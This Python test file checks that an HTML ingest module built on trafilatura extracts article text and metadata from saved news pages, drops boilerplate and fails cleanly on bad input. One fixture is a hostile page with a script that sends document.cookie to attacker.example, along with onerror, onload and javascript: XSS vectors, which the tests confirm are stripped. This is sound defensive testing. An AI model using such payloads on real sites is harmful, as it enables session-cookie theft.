"""Saved web pages through trafilatura: article text kept, boilerplate and scripts dropped."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from watchfloor.ingest import IngestFailure, IngestOptions, iter_inputs
from watchfloor.ingest import html as html_source
from watchfloor.model import Document

# trafilatura needs lxml_html_clean (lxml's "html_clean" extra); without it the import fails.
pytest.importorskip(
    "trafilatura",
    reason="trafilatura cannot be imported (is lxml_html_clean installed?)",
    exc_type=ImportError,
)

ARTICLE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Border police hold six foreigners near Kilis | Frontier Courier</title>
<meta property="og:site_name" content="Frontier Courier">
<meta property="og:title" content="Border police hold six foreigners near Kilis">
<meta name="author" content="Deniz Aksoy">
<meta property="article:published_time" content="2015-05-12T09:30:00+03:00">
</head><body>
<nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li><li><a href="/sport">Sport</a></li></ul></nav>
<div class="cookie-banner">We use cookies to improve your experience. Accept all cookies</div>
<article><h1>Border police hold six foreigners near Kilis</h1>
<p>Turkish border police detained six foreign nationals on Monday as they tried to cross into Syria
near the town of Elbeyli, local officials said.</p>
<p>The group included four Uzbeks and two Tajiks, who were taken to a removal centre in Gaziantep
pending deportation, according to the provincial governor's office.</p>
<p>Security along the frontier has been tightened in recent months as Ankara faces pressure from its
allies to stop foreign fighters.</p>
</article>
<aside><h3>Most read</h3><ul><li><a href="/x">Football results of the week</a></li></ul></aside>
<footer>Copyright 2015 Frontier Courier. All rights reserved. Contact us | Privacy policy</footer>
</body></html>
"""

HOSTILE = """<html><head><title>Breaking</title>
<script>document.location='http://attacker.example/?c='+document.cookie</script></head>
<body onload="alert('onload')"><img src=x onerror="alert('onerror')">
<iframe src="javascript:alert('iframe')"></iframe>
<div><p>Two Kosovars were arrested at a crossing in Kilis on Thursday, police said. They carried
forged passports and had bought bus tickets to the border.<script>alert('inline')</script></p>
<p>A third man escaped, according to the report, and a search is under way in the area.
<style>body{display:none}</style></p>
<p><b><i><u><table><tr><td>unclosed tags everywhere
</body>
"""


def ingest(path: Path, options: IngestOptions | None = None) -> list[Document | IngestFailure]:
    return list(iter_inputs([path], options or IngestOptions()))


def write(tmp_path: Path, name: str, content: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    else:
        path.write_bytes(content)
    return path


def test_article_text_and_metadata(tmp_path: Path) -> None:
    path = write(tmp_path, "kilis-six.html", ARTICLE)
    [doc] = ingest(path)
    assert isinstance(doc, Document)
    assert doc.doc_id == "kilis-six"
    assert doc.text.startswith("Border police hold six foreigners near Kilis\n")  # the headline line
    assert "four Uzbeks and two Tajiks" in doc.text
    for boilerplate in ("cookies", "Most read", "Football", "Copyright", "Privacy", "Sport"):
        assert boilerplate not in doc.text
    assert doc.title == "Border police hold six foreigners near Kilis"
    assert doc.author == "Deniz Aksoy"
    assert doc.published == date(2015, 5, 12)
    assert doc.source == "Frontier Courier"
    assert doc.language == "en"
    assert doc.origin == str(path)


def test_options_override_what_the_page_says(tmp_path: Path) -> None:
    path = write(tmp_path, "page.htm", ARTICLE)
    options = IngestOptions(published=date(2015, 5, 13), source="Saved by hand", lang="ru")
    [doc] = ingest(path, options)
    assert isinstance(doc, Document)
    assert (doc.published, doc.source, doc.language) == (date(2015, 5, 13), "Saved by hand", "ru")


def test_hostile_page_yields_only_text(tmp_path: Path) -> None:
    path = write(tmp_path, "hostile.html", HOSTILE)
    [doc] = ingest(path)
    assert isinstance(doc, Document)
    assert "Two Kosovars were arrested" in doc.text
    assert "A third man escaped" in doc.text
    for active in ("alert", "script", "onerror", "onload", "javascript", "document.cookie", "display:none"):
        assert active not in doc.text


def test_russian_page_in_cp1251(tmp_path: Path) -> None:
    page = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251">'
        "<title>Задержаны россияне</title></head><body><article><h1>Задержаны россияне</h1>"
        "<p>В среду в провинции Газиантеп турецкие жандармы задержали пятерых граждан России, "
        "которые пытались перейти границу с Сирией. Об этом сообщили в жандармерии провинции.</p>"
        "<p>Задержанных доставили в центр содержания иностранцев, их планируют депортировать.</p>"
        "</article></body></html>"
    )
    [doc] = ingest(write(tmp_path, "ru.html", page.encode("cp1251")))
    assert isinstance(doc, Document)
    assert "пятерых граждан России" in doc.text
    assert doc.language == "ru"


@pytest.mark.parametrize(
    "content",
    [
        "<html><head><title>Only a title</title></head><body><nav><a href='/'>Home</a></nav></body></html>",
        "",
        "<<<>>> not really <html",
        b"\x00\x01\x02\xff\xfe binary",
        "<div>" * 50_000 + "deep" + "</div>" * 50_000,
    ],
    ids=["no-article", "empty", "broken", "binary", "deeply-nested"],
)
def test_pages_without_article_text_fail_cleanly(tmp_path: Path, content: str | bytes) -> None:
    path = write(tmp_path, "bad.html", content)
    [failure] = ingest(path)
    assert isinstance(failure, IngestFailure)
    assert failure.input == str(path)
    assert failure.reason in {"no article text found", "binary file, not text"} or failure.reason.startswith(
        "cannot parse HTML"
    )


def test_page_larger_than_the_limit(tmp_path: Path) -> None:
    path = write(tmp_path, "big.html", ARTICLE)
    [failure] = ingest(path, IngestOptions(max_bytes=100))
    assert isinstance(failure, IngestFailure)
    assert "larger than the limit" in failure.reason


def test_module_entry_point(tmp_path: Path) -> None:
    path = write(tmp_path, "kilis.html", ARTICLE)
    [doc] = html_source.iter_documents(path, options=IngestOptions())
    assert doc.source == "Frontier Courier"
